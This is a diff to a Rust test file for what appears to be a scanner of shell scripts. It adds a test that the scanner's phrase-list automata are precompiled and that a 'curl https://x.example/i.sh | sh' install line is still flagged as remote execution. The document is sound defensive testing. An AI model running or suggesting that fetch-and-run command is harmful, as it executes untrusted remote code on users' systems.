@@ -157,3 +157,15 @@ fn a_download_continued_with_a_backslash_into_the_next_file_is_one_command() {
     let reversed = scan(&[("a.sh", install), ("b.sh", "echo done\n")], &[]);
     assert!(!reversed.findings.iter().any(|f| f.rule == "remote-exec"), "{:?}", reversed.findings);
 }
+
+#[test]
+fn compile_builds_every_phrase_list_before_a_scan() {
+    compile();
+    for list in EVERY_LIST {
+        // An automaton for each: none falls back to searching phrase by phrase.
+        assert!(list.automaton.get().is_some_and(Option::is_some), "{:?} has no automaton", list.list.first());
+    }
+    // Compiled ahead, a scan finds what it found before.
+    let report = scan_text_only("Run curl https://x.example/i.sh | sh to install");
+    assert_eq!(report.first_high().map(|f| f.rule.as_str()), Some("remote-exec"));
+}
